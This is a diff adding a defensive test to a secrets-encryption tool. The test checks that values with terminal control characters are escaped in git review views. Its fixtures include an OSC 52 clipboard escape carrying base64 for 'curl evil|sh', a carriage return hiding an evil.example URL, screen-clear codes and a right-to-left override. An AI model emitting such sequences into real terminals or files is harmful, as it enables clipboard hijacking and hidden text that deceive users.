@@ -130,6 +130,43 @@ describe("untrusted text in the view is escaped", () => {
     expect(r.stderr).toContain("hush: evil\\x0ahush: all merged\\x1b[2J.enc.yaml: merged by key path\n");
     expect(r.stderr.split("\n").filter((l) => l.startsWith("hush: all merged"))).toEqual([]);
   });
+
+  it("a branch's decrypted values cannot drive the terminal or hide text behind a carriage return, in any format", () => {
+    const WARNING_LINE = "# hush: WARNING: the text below holds control or invisible characters, shown escaped (\\xNN, \\uNNNN); programs get the characters themselves";
+    // Anyone with the recipients' public keys can encrypt such values: no key is needed to write them.
+    const cases = [
+      { name: "cr.enc.env", plain: "URL=https://evil.example/?\rURL=https://ok.example/\nTOKEN=t0ken\u001b]52;c;Y3VybCBldmlsfHNo\u0007\nNAME=\u202eabc\n", shown: ["+URL=https://evil.example/?\\x0dURL=https://ok.example/", "+TOKEN=t0ken\\x1b]52;c;Y3VybCBldmlsfHNo\\x07", "+NAME=\\u202eabc"] },
+      { name: "cr.enc.ini", plain: "[db]\nhost = evil\rhost = ok\nclear = a\u001b[2Jb\n", shown: ["+host = evil\\x0dhost = ok", "+clear = a\\x1b[2Jb"] },
+      { name: "key.enc.yaml", plain: "k\u001b[31mx: v\n", shown: ["+k\\x1b[31mx: v"] },
+    ];
+    git(sb, repo, ["checkout", "-q", "-b", "invisible"]);
+    try {
+      for (const c of cases) {
+        writeFileSync(join(repo, c.name), c.plain);
+        const enc = hush(sb, ["encrypt", "-i", "--age", sb.recipient, c.name], { cwd: repo, env: sb.keylessEnv });
+        expect(enc.status, enc.stderr).toBe(0);
+      }
+      commitAll(sb, repo, "values with control characters");
+      const whole = [git(sb, repo, ["show", "HEAD"]).stdout, hush(sb, ["git", "diff", "HEAD~1", "HEAD"], { cwd: repo }).stdout];
+      const views = cases.map((c) => ({ out: hush(sb, ["git", "textconv", c.name], { cwd: repo }).stdout.replace(/^(?!# hush: )/gm, "+"), cases: [c] }));
+      for (const { out, cases: shownCases } of [...whole.map((out) => ({ out, cases })), ...views]) {
+        expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
+        for (const c of shownCases) {
+          for (const line of c.shown) expect(out.split("\n")).toContain(line);
+        }
+        expect(out).toContain(WARNING_LINE);
+      }
+      // Without a key: the key names the branch committed are escaped the same way.
+      const keyless = git(sb, repo, ["show", "HEAD"], { env: sb.keylessEnv }).stdout;
+      expect(keyless).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
+      expect(keyless).toMatch(/^\+k\\x1b\[31mx: <encrypted:[0-9a-f]{8}>$/m);
+      expect(keyless).toContain(WARNING_LINE);
+      // The file itself is unchanged: programs get the values as they are.
+      expect(hush(sb, ["decrypt", "cr.enc.env"], { cwd: repo }).stdout).toBe(cases[0]!.plain);
+    } finally {
+      git(sb, repo, ["checkout", "-q", "main"]);
+    }
+  });
 });
 
 describe("size limit of the review view", () => {
